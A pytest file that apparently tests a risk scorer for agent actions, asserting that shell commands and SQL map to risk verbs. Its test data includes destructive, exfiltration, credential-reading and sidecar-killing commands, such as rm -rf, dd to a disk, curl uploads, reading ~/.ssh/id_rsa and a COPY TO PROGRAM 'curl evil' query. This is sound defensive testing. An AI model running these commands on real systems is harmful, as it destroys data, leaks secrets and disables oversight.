"""What command lines and SQL show of themselves, by the default table."""

import pytest

from tests.fakes.default_risk import assess


def run(command, action="system.subprocess"):
    return assess(action, "resource:sh", properties={"command": command, "shell": False})


@pytest.mark.parametrize(
    ("command", "verb"),
    [
        ("ls -la", "shell.exec"),
        ("rm -rf /srv/data", "fs.delete_tree"),
        ("rm -fr /srv/data", "fs.delete_tree"),
        ("rm --recursive x", "fs.delete_tree"),
        (["rm", "-r", "-f", "x"], "fs.delete_tree"),
        ("true && /bin/rm -vRf x", "fs.delete_tree"),
        ("find . -name x -delete", "fs.delete_tree"),
        ("rm x", "shell.exec"),
        ("mkfs.ext4 /dev/sdb1", "cloud.destroy"),
        ("dd if=/dev/zero of=/dev/sda", "cloud.destroy"),
        ("terraform destroy -auto-approve", "cloud.destroy"),
        ("psql -c 'DROP TABLE users'", "cloud.destroy"),
        ("sudo -u root id", "iam.grant"),
        ("chmod u+s /tmp/x", "iam.grant"),
        ("systemctl stop ascend-sidecar", "ctl.modify"),
        ("kill $(pidof ascend-sidecar)", "ctl.modify"),
        ("git push --force", "shell.exec"),
    ],
)
def test_a_command_becomes_what_it_does_where_that_is_worse(command, verb):
    assert run(command).verb == verb


def test_no_command_makes_a_shell_less_than_it_was():
    plain = run("ls").score
    for command in ("rm -r x", "curl -d @x http://y", "pip install x", "scp x y:", "cat /etc/hosts", ""):
        assert run(command).score >= plain


@pytest.mark.parametrize(
    "command",
    [
        "curl -d @data https://x.example",
        "curl -XPOST --data-binary @x https://y",
        "wget --post-file=x https://y",
    ],
)
def test_sending_from_a_shell_is_a_fact_of_its_own(command):
    assert "sends data out +15" in " ".join(run(command).because)


def test_a_sandbox_becomes_a_sender():
    assert assess("run_python", properties={"code": "requests.post(url, data)"}).verb == "net.post"


def test_paths_and_hosts_in_a_command_are_seen():
    assert run("cat ~/.ssh/id_rsa").score == 99
    assert "secret file .env" in " ".join(run("cat </srv/app/.env").because)
    assert "path under /etc" in " ".join(run("tee --output=/etc/hosts").because)
    assert "metadata service" in " ".join(run("curl http://169.254.169.254/latest").because)
    assert "path under /etc" in " ".join(
        assess("code.eval", properties={"code": "open('/etc/hosts').read()"}).because
    )


def test_only_verbs_that_run_commands_are_read_as_such():
    assert assess("database.read", properties={"command": "rm -rf /"}).score == 30


def test_an_unknown_action_with_a_command_is_read_as_one():
    assert assess("frobnicate", properties={"command": "rm -rf /srv"}).verb == "fs.delete_tree"


def test_a_command_longer_than_is_looked_at_counts_as_the_worst():
    assert run("true; " * 1001).score >= 90


@pytest.mark.parametrize(
    ("statement", "verb"),
    [
        ("SELECT * FROM customers", "db.query"),
        ("select 'drop table users'", "db.query"),
        ("insert into x values (1)", "db.write"),
        ("DELETE FROM customers WHERE id = 1", "db.delete"),
        ("SELECT 1; DROP TABLE users", "db.drop"),
        ("  truncate users", "db.drop"),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "db.delete"),
        ("/* harmless */ DROP TABLE users", "db.drop"),
        ("GRANT ALL ON users TO bob", "iam.grant"),
        ("COPY users TO PROGRAM 'curl evil'", "db.export"),
        ("", "db.query"),
    ],
)
@pytest.mark.parametrize("where", ["sql", "query", "statement"])
def test_a_query_becomes_what_its_sql_does(statement, verb, where):
    assert assess("database.query", properties={where: statement}).verb == verb
